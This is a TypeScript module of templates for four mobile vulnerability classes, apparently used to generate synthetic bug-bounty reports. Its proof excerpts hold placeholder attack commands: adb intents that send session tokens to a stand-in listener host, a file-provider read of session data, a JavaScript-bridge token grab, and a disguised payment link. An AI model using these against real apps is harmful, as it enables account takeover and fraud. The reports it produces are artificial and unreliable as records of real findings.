import type { VulnerabilityClass } from './vulnerability-class.ts'

const deepLink: VulnerabilityClass = {
  key: 'deep-link',
  type: 'Mobile deep link',
  cwe: 939,
  weight: 7,
  surfaces: ['mobile'],
  shape: 'click',
  severities: [
    ['High', 5],
    ['Medium', 4],
  ],
  places: [
    {
      path: '«slug»://web?url=',
      parameter: 'url',
      detail: 'the built-in browser',
      excerpt: `$ adb shell am start -a android.intent.action.VIEW -d '«slug»://web?url=https://«listener»/' «bundle»

# access log at «listener»
«ip» "GET / HTTP/2" 200 "Authorization: Bearer «jwt»"`,
    },
    {
      path: '«slug»://auth/callback',
      parameter: 'code',
      detail: 'the sign-in',
      excerpt: `<!-- manifest of my demo app, which is asked as well -->
<activity android:name=".Catch" android:exported="true">
  <intent-filter>
    <action android:name="android.intent.action.VIEW"/>
    <category android:name="android.intent.category.BROWSABLE"/>
    <data android:scheme="«slug»" android:host="auth"/>
  </intent-filter>
</activity>

<!-- its log: «slug»://auth/callback?code=SplxlOBeZQQYbYS6WxSbIA -->`,
    },
    {
      path: '«slug»://pay?to=',
      parameter: 'to',
      detail: 'a payment',
      excerpt: `<a href="«slug»://pay?to=«meId»&amount=25&confirm=false">Track your parcel</a>

log of the app «appVersion»: PaymentSheet skipped (confirm=false), POST «api»/payments 201`,
    },
  ],
  titles: [
    'Deep link «path»: a web page controls «detail» of «bundle»',
    'Unvalidated deep link `«path»` («bundle»)',
    '`«parameter»` of `«slug»://` reaches «detail» without a check',
    'One tap on a link hands «detail» to the attacker (`«slug»://`)',
  ],
  summaries: [
    'The app takes `«parameter»` of `«path»` as it comes and uses it for «detail». A link on a web page or another app is enough.',
    '«Detail» of `«bundle»` can be steered from outside through `«path»`. I tested version «appVersion».',
  ],
  steps: [
    [
      'Install version «appVersion» of `«bundle»` and sign in.',
      'Use what is shown below, or put the link on a page and tap it.',
      'See the result in the log.',
    ],
  ],
  proofs: [[{ say: 'What I used:', lang: 'text', code: '«excerpt»' }]],
  impacts: [
    'One tap and «detail» belongs to somebody else; the session that goes with it opens «secrets».',
    'Every «customer» with the app on the phone can be attacked by a link in a message.',
  ],
  fixes: [
    'Open own hosts only, do not add the header for others, and use verified app links in place of the scheme.',
  ],
  notes: ['Reproduced on a Pixel 8, app «appVersion». iOS build asks before opening. Token has 30 minutes.'],
}

const insecureStorage: VulnerabilityClass = {
  key: 'insecure-storage',
  type: 'Mobile data storage',
  cwe: 312,
  weight: 6,
  surfaces: ['mobile'],
  shape: 'local',
  severities: [
    ['High', 1],
    ['Medium', 5],
    ['Low', 5],
  ],
  places: [
    {
      path: 'shared_prefs/session.xml',
      parameter: 'refreshToken',
      detail: 'in plain text',
      excerpt: `$ adb shell run-as «bundle» cat shared_prefs/session.xml | head -4
<map>
    <string name="refreshToken">«token»</string>
    <string name="user">«me»</string>
</map>`,
    },
    {
      path: 'cache/http-cache.db',
      parameter: 'response',
      detail: 'after signing out',
      excerpt: `$ sqlite3 http-cache.db "select request_key, length(body) from responses limit 3"
https://«host»«collection»/«id»|2310
https://«host»«collection»?page=1|48213
https://«host»«api»/me|412`,
    },
    {
      path: 'files/logs/app.log',
      parameter: 'pin',
      detail: 'in the log of the app',
      excerpt: `$ grep -a pin files/logs/app.log | head -2
09:12:44 D/Unlock: verify(pin=4096, user=«meId»)
09:12:44 D/Http: --> POST «api»/unlock {"pin":"4096"}`,
    },
    {
      path: 'databases/offline.db',
      parameter: '«textField»',
      detail: 'without encryption and part of the backup',
      excerpt: `$ file offline.db
offline.db: SQLite 3.x database
$ sqlite3 offline.db "select count(*) from «table»; select «textField» from «table» limit 1"
«many2»
private, please do not share`,
    },
  ],
  titles: [
    'Insecure storage: `«parameter»` is kept «detail» (`«path»`)',
    '«bundle» keeps `«parameter»` «detail»',
    'Sensitive data in `«path»` of the app',
    '`«parameter»` can be read from a backup of «bundle» (`«path»`)',
  ],
  summaries: [
    'The app keeps `«parameter»` «detail» in `«path»`. Whoever gets hold of a backup or of the unlocked phone can read it.',
    'After normal use of the app I found `«parameter»` in `«path»`, «detail».',
  ],
  steps: [
    ['Use the app for a minute («appVersion»).', 'Make a backup, or use a rooted phone.', 'Read `«path»`.'],
  ],
  proofs: [[{ say: 'On the phone, or from the backup:', lang: 'bash', code: '«excerpt»' }]],
  impacts: [
    'A lost phone or a backup in the cloud gives away the session; it is valid for 90 days.',
    '«Many» can be read offline, without the PIN of the app.',
  ],
  fixes: ['Use the key store of the system and leave the file out of backups.'],
  notes: ['Right, file is there. Needs root or a backup, therefore Low to Medium by our mobile policy.'],
}

const exportedComponent: VulnerabilityClass = {
  key: 'exported-component',
  type: 'Mobile deep link',
  cwe: 926,
  weight: 5,
  surfaces: ['mobile'],
  shape: 'local',
  severities: [
    ['High', 3],
    ['Medium', 6],
  ],
  places: [
    {
      path: '.share.FileProvider',
      parameter: 'content URI',
      detail: 'the file provider',
      excerpt: `$ adb shell content read --uri 'content://«bundle».files/root/data/data/«bundle»/shared_prefs/session.xml' | head -2
<?xml version='1.0' encoding='utf-8' standalone='yes' ?>
<map><string name="access">«jwt»</string></map>`,
    },
    {
      path: '.debug.ConfigActivity',
      parameter: 'baseUrl',
      detail: 'the activity for testers',
      excerpt: `$ adb shell am start -n «bundle»/.debug.ConfigActivity --es baseUrl https://«listener»/

# access log at «listener», from the next start of the app on
«ip» "POST «api»/session/refresh HTTP/1.1" 404 "refresh_token=«token»"`,
    },
    {
      path: '.web.HybridActivity',
      parameter: 'address',
      detail: 'the web view with its JavaScript bridge',
      excerpt: `$ adb shell am start -n «bundle»/.web.HybridActivity --es address https://«attacker»/poc.html

// poc.html
document.title = Native.getSession()     // the token appears in the title bar`,
    },
  ],
  titles: [
    'Exported component `«path»` of «bundle» can be used by any app',
    '«Detail» `«path»` is exported: any app decides about the «parameter»',
    'Any app on the phone gets the session of «bundle» through `«path»`',
    '«bundle»: «detail» is open to other apps',
  ],
  summaries: [
    '`«path»` is exported without a permission. Another app without any rights uses «detail» to reach the session.',
    'By calling `«path»` from another app I control the «parameter», and with it what the app does in the name of the user.',
  ],
  steps: [
    [
      'Install version «appVersion» of `«bundle»` and sign in.',
      'Do what is shown below from the shell, or install the proof app (no permissions) and press its only button.',
      'The session is in the hands of the other app.',
    ],
  ],
  proofs: [[{ say: 'Without an app of my own:', lang: 'bash', code: '«excerpt»' }]],
  impacts: [
    'Every game or torch app may take over the account.',
    'Private files and the session leave the sandbox of the app.',
  ],
  fixes: ['Set `android:exported="false"`, and check who calls.'],
  notes: ['Works on Android 13 to 15. Was made exported for the instrumentation tests, forgotten since.'],
}

const appSecret: VulnerabilityClass = {
  key: 'app-secret',
  type: 'Hard-coded secret',
  cwe: 798,
  weight: 5,
  surfaces: ['mobile', 'device'],
  shape: 'read',
  severities: [
    ['High', 4],
    ['Medium', 4],
    ['Low', 3],
  ],
  places: [
    { path: 'res/values/strings.xml', parameter: 'sms_gateway_key', detail: 'the key of the SMS gateway' },
    { path: 'lib/arm64-v8a/libcore.so', parameter: 'AES key', detail: 'the key that encrypts all backups' },
    { path: 'assets/config.prod.json', parameter: 'partnerSecret', detail: 'the secret of a partner API' },
    {
      path: 'squashfs-root/etc/provision.conf',
      parameter: 'mqtt_password',
      detail: 'one password for all devices',
      on: ['device'],
    },
  ],
  titles: [
    'Hard-coded `«parameter»` in `«path»`: «detail»',
    '«Detail» is inside the package (`«path»`)',
    'Secret in the app: `«parameter»` works against «host»',
    'Unpacking the package gives «detail»',
  ],
  summaries: [
    'Unpacking the package shows «detail» in `«path»`. It is the same for every installation and it works.',
    '`«parameter»` in `«path»` is «detail». I made one read-only call to see whether it is valid.',
  ],
  steps: [['Unpack the current release.', 'Search for `«parameter»`.', 'Use it for the call below.']],
  proofs: [
    [
      {
        say: 'Unpacking and finding it:',
        lang: 'bash',
        code: `$ grep -rn '«parameter»' out/ | head -1
out/«path»:48:  "«parameter»": "9f3a************************c1"

$ curl -s -H 'X-Key: 9f3a…' https://«host»/v1/quota
{"plan":"enterprise","remaining":184220}`,
      },
    ],
  ],
  impacts: [
    'Everybody who can unpack the package has the rights of the app’s owner: sending messages at the cost of «company», or reading what they should not.',
    'The secret cannot be changed without a new release, and old ones stay in use for months.',
  ],
  fixes: ['Let the own server make this call and rotate the secret.'],
  notes: ['Key is valid. It is limited to sending, quota alerts exist. Rotation needs a forced update.'],
}

export const mobileClasses: readonly VulnerabilityClass[] = [
  deepLink,
  insecureStorage,
  exportedComponent,
  appSecret,
]
